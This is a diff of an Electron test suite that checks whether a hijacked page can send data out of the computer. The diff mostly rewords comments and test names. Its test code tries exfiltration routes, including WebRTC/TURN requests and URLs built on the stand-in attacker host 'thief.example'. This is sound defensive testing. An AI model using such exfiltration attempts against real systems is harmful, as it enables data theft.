@@ -15,11 +15,11 @@ import {
   userData,
 } from "./support/program.ts";
 
-/** What a page that was taken over could send out of this computer, and by which way. */
+/** What a hijacked page could send out of this computer, and by which way. */
 
 let folder = "";
 let program: Program;
-/** An Electron without the program: what does nothing there proves nothing here. */
+/** An Electron without the program: a way that fails there proves nothing here. */
 let bare: ElectronApplication;
 beforeAll(async () => {
   folder = await userData();
@@ -44,13 +44,13 @@ async function startBare(): Promise<ElectronApplication> {
   return electron.launch({ executablePath: executable, args: [...flags, "-r", main, folder], env, timeout: 60_000 });
 }
 
-/** Runs it in a page that has a Content Security Policy, and nothing else to hold it back. */
+/** Runs it in a page with a Content Security Policy, and no other restriction. */
 const inBarePage = (code: string): Promise<void> =>
   bare.evaluate(async ({ app, BrowserWindow }, script) => {
     await app.whenReady();
     const window = new BrowserWindow({ show: false });
     window.webContents.setWindowOpenHandler(() => ({ action: "deny" }));
-    // A page that leaves ends its script without a word.
+    // A page that leaves ends its script silently.
     window.webContents.on("will-navigate", (event) => event.preventDefault());
     const rule = "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\"><body>";
     await window.loadURL(`data:text/html,${encodeURIComponent(rule)}`);
@@ -58,7 +58,7 @@ const inBarePage = (code: string): Promise<void> =>
     window.destroy();
   }, code);
 
-/** Has a page ask servers for its own address, by UDP and by TCP, as WebRTC does before it sends. */
+/** Makes a page ask servers for its own address, by UDP and by TCP, as WebRTC does before it sends. */
 const reachOut = (udpPort: number, tcpPort: number) => `(async () => {
   try {
     const turn = { urls: "turn:127.0.0.1:${tcpPort}?transport=tcp", username: "a", credential: "b" };
@@ -92,10 +92,10 @@ test("WebRTC is no way out of the page, though it is one out of a page that has 
   server.close();
 });
 
-/** Each way out names a host of its own below it, so that a leak says which it was. */
+/** Each way out uses its own subdomain, so that a leak shows which it was. */
 const thiefHost = "thief.example";
 
-/** Everything a page of Chromium 130 can do that asks for a host without asking a person. */
+/** Everything in a page of Chromium 130 that contacts a host without asking a person. */
 const waysOut = `(async () => {
   const to = (way) => "https://" + way + ".${thiefHost}/";
   const attempt = (way, go) => { try { Promise.resolve(go(to(way))).catch(() => undefined); } catch {} };
@@ -183,7 +183,7 @@ test("no name is looked up for the page: a name alone could carry what the page 
 const call = (name: string, args: unknown, afterMs = 0) => callByPage(program.page, name, args, afterMs);
 const opened = () => program.app.evaluate(() => Reflect.get(globalThis, "opened") as string[]);
 
-test("the page opens nothing in the browser: not by itself, and after a press only what the program has named", async () => {
+test("the page opens nothing in the browser: not by itself, and after a press only addresses that the program has named", async () => {
   // The ways of the test before would have opened it, and these.
   expect(await opened()).toEqual([]);
   const { value: airline } = (await call("demo.open", undefined)) as { value: { baseUrl: string } };
@@ -198,7 +198,7 @@ test("the page opens nothing in the browser: not by itself, and after a press on
   expect(await opened()).toEqual([`${own}/`]);
 });
 
-test("the program asks no host for the page that the pilot has not just asked for", async () => {
+test("the program sends no request for the page without the pilot's press", async () => {
   const heard: string[] = [];
   const server = createTcpServer((connection) => {
     heard.push("asked");
